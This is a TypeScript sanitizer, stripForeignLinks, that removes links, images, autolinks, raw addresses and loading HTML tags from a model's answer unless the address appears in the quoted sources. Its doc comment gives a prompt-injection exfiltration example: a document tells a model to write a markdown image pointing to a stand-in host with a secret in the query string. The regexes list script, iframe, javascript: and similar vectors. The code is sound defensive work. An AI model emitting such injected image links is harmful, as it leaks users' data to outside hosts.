/**
 * Takes out of a statement what could send a reader, or a reader's browser, somewhere the documents do not: a document
 * can tell a model to write `![x](https://elsewhere/?q=secret)`, and a page that shows the answer would load it.
 *
 * - Images always become their alternative text.
 * - A link becomes its text, and a bare address goes, unless the address stands word for word in `quotes`.
 * - HTML tags that load or link go with their attributes; reference definitions go whole, so that `[text][id]` leads nowhere.
 */
export function stripForeignLinks(statement: string, quotes: readonly string[]): string {
  const isQuoted = (address: string) => quotes.some((quote) => quote.includes(address));
  return statement
    .replace(DEFINITION, '')
    .replace(TAG, '')
    .replace(IMAGE, '$1')
    .replace(LINK, (whole, text: string, address: string) => (isQuoted(address) ? whole : text))
    .replace(AUTOLINK, (whole, address: string) => (isQuoted(address) ? whole : ''))
    .replace(ADDRESS, (address) => {
      const bare = address.replace(/[.,;:!?'"”’)\]]+$/u, '');
      return isQuoted(bare) ? address : address.slice(bare.length);
    });
}

/** `[id]: https://… "title"` on a line of its own. */
const DEFINITION = /^[ \t]{0,3}\[[^\]\n]{1,200}\]:[ \t]*\S+.*$/gmu;
const TAG =
  /<\/?(?:a|img|iframe|script|link|form|object|embed|video|audio|source|svg|style|base|meta)\b[^>]*>?/giu;
const IMAGE = /!\[([^\]\n]{0,500})\](?:\([^)\n]{0,2000}\)?|\[[^\]\n]{0,200}\])/gu;
const LINK = /\[([^\]\n]{0,500})\]\(\s*<?([^\s)>]{0,2000})>?[^)\n]{0,500}\)?/gu;
const AUTOLINK = /<([a-z][a-z0-9+.-]{1,20}:[^>\s]{0,2000})>/giu;
const ADDRESS =
  /\b(?:https?|ftp|wss?|file|data|javascript|vbscript|blob):[^\s<>]+|(?<![\p{L}\p{N}@.])www\.[^\s<>]+/giu;
